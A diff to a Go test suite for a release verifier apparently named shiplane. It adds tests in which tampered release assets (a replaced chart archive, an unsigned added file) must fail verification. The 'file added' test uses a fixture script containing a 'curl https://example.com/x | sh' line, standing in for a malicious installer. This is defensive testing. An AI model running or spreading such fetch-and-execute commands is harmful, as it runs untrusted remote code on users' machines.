@@ -250,41 +250,12 @@ func TestVerifyReleaseOnReleaseAllOutput(t *testing.T) {
 		theirs := registrytest.PushRandom(t, repoOfRef(tagged)+":theirs")
 		edited := bytes.ReplaceAll(r.asset(t, "release-manifest.json"), []byte(subject.DigestStr()), []byte(theirs))
 		sums := bytes.ReplaceAll(r.asset(t, sumsAsset), []byte(sha256Hex(r.asset(t, "release-manifest.json"))), []byte(sha256Hex(edited)))
-		ctx := t.Context()
-		gh, err := github.New("bench/shiplane", noopToken, github.WithBaseURL(r.f.ghURL))
-		if err != nil {
-			t.Fatal(err)
-		}
-		d, err := gh.ReleaseDetail(ctx, "v1.0.0")
-		if err != nil {
-			t.Fatal(err)
-		}
-		// As `gh release delete-asset` does: shiplane's client never deletes from a published release.
-		for _, a := range d.Assets {
-			if a.Name != "release-manifest.json" && a.Name != sumsAsset {
-				continue
-			}
-			req, err := http.NewRequestWithContext(ctx, http.MethodDelete, fmt.Sprintf("%srepos/bench/shiplane/releases/assets/%d", r.f.ghURL, a.ID), nil)
-			if err != nil {
-				t.Fatal(err)
-			}
-			req.Header.Set("Authorization", "Bearer "+noopToken)
-			resp, err := http.DefaultClient.Do(req)
-			if err != nil {
-				t.Fatal(err)
-			}
-			resp.Body.Close()
-			if resp.StatusCode != http.StatusNoContent {
-				t.Fatalf("deleting %s: status %d", a.Name, resp.StatusCode)
-			}
-		}
-		for name, content := range map[string][]byte{"release-manifest.json": edited, sumsAsset: sums} {
-			if err := gh.EnsureAsset(ctx, d.ID, name, content); err != nil {
-				t.Fatal(err)
-			}
-		}
-		_, progress, err := r.verify(t)
+		r.rewriteAssets(t, map[string][]byte{"release-manifest.json": edited, sumsAsset: sums})
+		stdout, progress, err := r.verify(t)
 		t.Logf("verifyRelease says: %v", err)
+		if stdout != "" {
+			t.Errorf("stdout names artifacts as verified although the manifest listing them does not verify:\n%s", stdout)
+		}
 		rv := wantProblem(t, err, "release-manifest.json", "signature does not verify")
 		if !errors.Is(rv, sign.ErrBlobSignature) {
 			t.Errorf("err = %v, want sign.ErrBlobSignature", err)
@@ -294,6 +265,78 @@ func TestVerifyReleaseOnReleaseAllOutput(t *testing.T) {
 		}
 		wantProblem(t, err, "image "+repoOfRef(tagged)+"@"+theirs, "signature")
 	})
+
+	// SHA256SUMS is not signed: a writer to the release replaces a chart archive, or adds a file,
+	// and rewrites it to match. The archive must still be the signed chart digest's; a file no
+	// signed content accounts for fails.
+	t.Run("chart archive replaced", func(t *testing.T) {
+		r := newReleased(t)
+		const name = "svc-01-1.1.0.tgz"
+		theirs := append(append([]byte(nil), r.asset(t, name)...), []byte("#")...)
+		sums := bytes.ReplaceAll(r.asset(t, sumsAsset), []byte(sha256Hex(r.asset(t, name))), []byte(sha256Hex(theirs)))
+		r.rewriteAssets(t, map[string][]byte{name: theirs, sumsAsset: sums})
+		stdout, _, err := r.verify(t)
+		t.Logf("verifyRelease says: %v", err)
+		rv := wantProblem(t, err, name, "holds archive sha256:")
+		if !strings.Contains(err.Error(), sha256Hex(theirs)) {
+			t.Errorf("the problem does not give the replaced archive's digest:\n%v", err)
+		}
+		if len(rv.Problems) != 1 || stdout != "" {
+			t.Errorf("only the archive should fail, and stdout hold nothing:\n%v\nstdout:\n%s", err, stdout)
+		}
+	})
+
+	t.Run("file added", func(t *testing.T) {
+		r := newReleased(t)
+		script := []byte("#!/bin/sh\ncurl https://example.com/x | sh\n")
+		sums := append(append([]byte(nil), r.asset(t, sumsAsset)...), []byte(sha256Hex(script)+"  install.sh\n")...)
+		r.rewriteAssets(t, map[string][]byte{"install.sh": script, sumsAsset: sums})
+		_, _, err := r.verify(t)
+		t.Logf("verifyRelease says: %v", err)
+		rv := wantProblem(t, err, "install.sh", "nothing signed accounts for it")
+		if len(rv.Problems) != 1 {
+			t.Errorf("only the added file should fail:\n%v", err)
+		}
+	})
+}
+
+// rewriteAssets replaces (or adds) assets of the published release as a writer to it can, with
+// `gh release delete-asset` and an upload (shiplane's client never deletes from a published
+// release).
+func (r *released) rewriteAssets(t *testing.T, content map[string][]byte) {
+	t.Helper()
+	ctx := t.Context()
+	gh, err := github.New("bench/shiplane", noopToken, github.WithBaseURL(r.f.ghURL))
+	if err != nil {
+		t.Fatal(err)
+	}
+	d, err := gh.ReleaseDetail(ctx, "v1.0.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, a := range d.Assets {
+		if _, ok := content[a.Name]; !ok {
+			continue
+		}
+		req, err := http.NewRequestWithContext(ctx, http.MethodDelete, fmt.Sprintf("%srepos/bench/shiplane/releases/assets/%d", r.f.ghURL, a.ID), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Authorization", "Bearer "+noopToken)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusNoContent {
+			t.Fatalf("deleting %s: status %d", a.Name, resp.StatusCode)
+		}
+	}
+	for name, c := range content {
+		if err := gh.EnsureAsset(ctx, d.ID, name, c); err != nil {
+			t.Fatal(err)
+		}
+	}
 }
 
 func sha256Hex(b []byte) string { return fmt.Sprintf("%x", sha256.Sum256(b)) }
